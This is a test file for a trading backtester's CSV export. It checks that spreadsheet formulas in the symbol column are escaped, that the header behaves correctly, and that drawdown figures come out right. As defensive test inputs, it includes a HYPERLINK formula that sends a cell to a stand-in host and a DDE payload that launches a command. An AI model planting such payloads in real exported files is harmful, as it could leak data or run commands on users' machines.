import { describe, expect, test } from "bun:test";
import { equityToCsv, openTradesToCsv, tradesToCsv } from "./to-csv.ts";
import type { ReportTrade } from "./types.ts";

const trade = (symbol: string): ReportTrade => ({
  symbol, size: -2, entryTime: Date.UTC(2024, 0, 1), exitTime: Date.UTC(2024, 0, 2), entryPrice: 10, exitPrice: 9, pnl: 2, returnPct: 10, fees: 0, duration: 86_400_000,
});

describe("CSV cells", () => {
  test("text a spreadsheet would run as a formula is written as text: a leading apostrophe, then the usual quoting", () => {
    const csv = tradesToCsv([trade('=HYPERLINK("http://x/?"&A1,"x")'), trade("+cmd|' /C calc'!A0"), trade("-1+1"), trade("@SUM(A1)"), trade("\tX")]);
    const symbols = csv.trim().split("\n").slice(1).map((line) => line.slice(0, line.lastIndexOf(",-2,")));
    expect(symbols).toEqual([`"'=HYPERLINK(""http://x/?""&A1,""x"")"`, "'+cmd|' /C calc'!A0", "'-1+1", "'@SUM(A1)", "'\tX"]);
  });

  test("plain text, commas and quotes keep their usual form; numbers, negative ones too, are not touched", () => {
    const csv = tradesToCsv([trade("BTCUSDT"), trade('A,"B"')]);
    expect(csv.split("\n")[1]).toBe("BTCUSDT,-2,2024-01-01T00:00:00.000Z,2024-01-02T00:00:00.000Z,10,9,2,10,0,86400000");
    expect(csv.split("\n")[2]!.startsWith('"A,""B""",-2,')).toBe(true);
    expect(openTradesToCsv([{ symbol: "=1+1", size: -3, entryTime: 0, entryPrice: 5, entryFee: 0.5 }]).split("\n")[1]).toBe("'=1+1,-3,1970-01-01T00:00:00.000Z,5,0.5");
  });
});

describe("trades.csv's symbol column", () => {
  const HEADER = "size,entryTime,exitTime,entryPrice,exitPrice,pnl,returnPct,fees,durationMs";

  test("said by the results, it is there without any trade (an engine backtest that closed none)", () => {
    expect(tradesToCsv([], true)).toBe(`symbol,${HEADER}\n`);
    expect(tradesToCsv([], false)).toBe(`${HEADER}\n`);
  });

  test("not said, it follows the trades: there when they carry a symbol, absent for plain ones and for none", () => {
    expect(tradesToCsv([trade("A")]).split("\n")[0]).toBe(`symbol,${HEADER}`);
    const { symbol: _, ...plain } = trade("A");
    expect(tradesToCsv([plain]).split("\n")[0]).toBe(HEADER);
    expect(tradesToCsv([])).toBe(`${HEADER}\n`);
  });
});

describe("equity.csv's drawdown", () => {
  const times = [0, 1, 2].map((d) => Date.UTC(2024, 0, 1 + d));
  const drawdowns = (csv: string) => csv.trimEnd().split("\n").slice(1).map((line) => line.split(",")[2]);

  test("the running peak starts at the starting cash: a first bar at 5,000 of 10,000 is 50 % under, 7,500 is 25 %", () => {
    // (1 − 5,000 / 10,000) · 100 = 50; (1 − 7,500 / 10,000) · 100 = 25; 12,000 is a new peak: 0.
    expect(drawdowns(equityToCsv(times, [5_000, 7_500, 12_000], 10_000))).toEqual(["50", "25", "0"]);
  });

  test("out of money on the first bar: 0 of 10,000 is 100 % under on every bar, not an empty cell", () => {
    expect(drawdowns(equityToCsv(times, [0, 0, 0], 10_000))).toEqual(["100", "100", "100"]);
  });

  test("equity one ulp under its peak (float noise of marking) is 0 under, as the statistics count it", () => {
    expect(drawdowns(equityToCsv(times, [10_208.000960000001, 10_208.00096, 10_208.00096], 10_000))).toEqual(["0", "0", "0"]);
  });

  test("without the starting cash the peak starts at the first bar", () => {
    // 5,000 is its own peak (0), 7,500 a new one (0), 3,750 is (1 − 3,750 / 7,500) · 100 = 50 under.
    expect(drawdowns(equityToCsv(times, [5_000, 7_500, 3_750]))).toEqual(["0", "0", "50"]);
  });
});
